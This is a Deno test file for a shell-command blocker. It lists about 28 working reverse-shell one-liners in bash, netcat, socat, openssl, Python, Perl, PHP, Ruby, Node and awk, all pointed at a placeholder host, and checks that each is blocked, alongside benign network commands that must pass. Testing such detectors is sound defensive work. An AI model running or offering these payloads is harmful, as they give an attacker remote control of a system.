import assert from "node:assert/strict";
import { blocked, fired } from "./test_helpers.ts";

const BLOCK: [string, string][] = [
  ["bash -i >& /dev/tcp/10.0.0.1/4444 0>&1", "reverse_shell_devtcp"],
  ["sh -i >& /dev/udp/10.0.0.1/4444 0>&1", "reverse_shell_devtcp"],
  ["bash -c 'bash -i >& /dev/tcp/10.0.0.1/4444 0>&1'", "reverse_shell_devtcp"],
  [
    "0<&196;exec 196<>/dev/tcp/10.0.0.1/4242; sh <&196 >&196 2>&196",
    "reverse_shell_devtcp",
  ],
  [
    "exec 5<>/dev/tcp/10.0.0.1/4444; cat <&5 | while read line; do $line 2>&5 >&5; done",
    "reverse_shell_devtcp",
  ],
  ["nc -e /bin/sh 10.0.0.1 4444", "reverse_shell_netcat"],
  ["nc 10.0.0.1 4444 -e /bin/bash", "reverse_shell_netcat"],
  ["ncat 10.0.0.1 4444 -e /bin/bash", "reverse_shell_netcat"],
  ["ncat --exec /bin/bash 10.0.0.1 4444", "reverse_shell_netcat"],
  ["ncat --sh-exec 'bash -i' 10.0.0.1 4444", "reverse_shell_netcat"],
  ["nc -c sh 10.0.0.1 4444", "reverse_shell_netcat"],
  ["nc -lvp 4444 -e /bin/bash", "reverse_shell_netcat"],
  ["netcat -e /bin/sh 10.0.0.1 1", "reverse_shell_netcat"],
  [
    "rm /tmp/f;mkfifo /tmp/f;cat /tmp/f|/bin/sh -i 2>&1|nc 10.0.0.1 1234 >/tmp/f",
    "reverse_shell_netcat",
  ],
  [
    "mkfifo /tmp/p; nc 10.0.0.1 4444 0</tmp/p | /bin/bash > /tmp/p 2>&1",
    "reverse_shell_netcat",
  ],
  [
    "telnet 10.0.0.1 4444 | /bin/bash | telnet 10.0.0.1 4445",
    "reverse_shell_netcat",
  ],
  [
    "mkfifo /tmp/s; /bin/sh -i < /tmp/s 2>&1 | openssl s_client -quiet -connect 10.0.0.1:4444 > /tmp/s",
    "reverse_shell_netcat",
  ],
  ["socat TCP:10.0.0.1:4444 EXEC:/bin/bash", "reverse_shell_socat"],
  [
    "socat tcp-connect:10.0.0.1:4444 exec:'bash -li',pty,stderr,setsid",
    "reverse_shell_socat",
  ],
  [
    "socat TCP-LISTEN:4444,reuseaddr,fork SYSTEM:/bin/sh",
    "reverse_shell_socat",
  ],
  [
    'python3 -c \'import socket,subprocess,os;s=socket.socket(socket.AF_INET,socket.SOCK_STREAM);s.connect(("10.0.0.1",1234));os.dup2(s.fileno(),0);subprocess.call(["/bin/sh","-i"])\'',
    "reverse_shell_script",
  ],
  [
    'python -c \'import pty,socket;s=socket.socket();s.connect(("10.0.0.1",9));[__import__("os").dup2(s.fileno(),f) for f in (0,1,2)];pty.spawn("/bin/bash")\'',
    "reverse_shell_script",
  ],
  [
    'perl -e \'use Socket;$i="10.0.0.1";socket(S,PF_INET,SOCK_STREAM,getprotobyname("tcp"));if(connect(S,sockaddr_in(1234,inet_aton($i)))){open(STDIN,">&S");exec("/bin/sh -i");};\'',
    "reverse_shell_script",
  ],
  [
    'php -r \'$sock=fsockopen("10.0.0.1",1234);exec("/bin/sh -i <&3 >&3 2>&3");\'',
    "reverse_shell_script",
  ],
  [
    'ruby -rsocket -e\'f=TCPSocket.open("10.0.0.1",1234).to_i;exec sprintf("/bin/sh -i <&%d >&%d 2>&%d",f,f,f)\'',
    "reverse_shell_script",
  ],
  [
    'node -e \'var net=require("net"),cp=require("child_process"),sh=cp.spawn("/bin/sh",[]);var c=new net.Socket();c.connect(4444,"10.0.0.1",function(){c.pipe(sh.stdin);sh.stdout.pipe(c);});\'',
    "reverse_shell_script",
  ],
  [
    'awk \'BEGIN {s = "/inet/tcp/0/10.0.0.1/4242"; while(42) { do{ printf "shell>" |& s; s |& getline c; if(c){ while ((c |& getline) > 0) print $0 |& s; close(c); } } while(c != "exit") close(s); }}\' /dev/null',
    "reverse_shell_script",
  ],
  [
    "python3 - <<EOF\nimport socket,subprocess\ns=socket.socket();s.connect(('10.0.0.1',1))\nsubprocess.call(['/bin/sh','-i'],stdin=s.fileno(),stdout=s.fileno())\nEOF",
    "reverse_shell_script",
  ],
];

Deno.test("reverse shells block", () => {
  for (const [cmd, policy] of BLOCK) {
    assert.ok(
      blocked(cmd).includes(policy),
      `${cmd} should block with ${policy}; got ${fired(cmd)}`,
    );
  }
});

Deno.test("network use that is not a shell passes", () => {
  for (
    const cmd of [
      "timeout 1 bash -c '</dev/tcp/localhost/5432'",
      "echo test | nc localhost 8080",
      "nc -zv localhost 5432",
      "nc -l 8080 > received.bin",
      "socat - TCP:localhost:80",
      "openssl s_client -connect example.com:443 </dev/null",
      "python3 -c 'import socket; print(socket.gethostname())'",
      'node -e \'require("net").connect(80, "example.com").end()\'',
      "telnet example.com 80",
      "curl https://x | sh -c 'cat > /tmp/x'",
      "echo 'bash -i >& /dev/tcp/1.2.3.4/1 0>&1' > notes.md",
    ]
  ) {
    assert.deepEqual(blocked(cmd), [], `${cmd}: ${fired(cmd)}`);
  }
  assert.ok(
    fired("timeout 1 bash -c 'echo > /dev/tcp/localhost/5432'").length <= 1,
  );
});
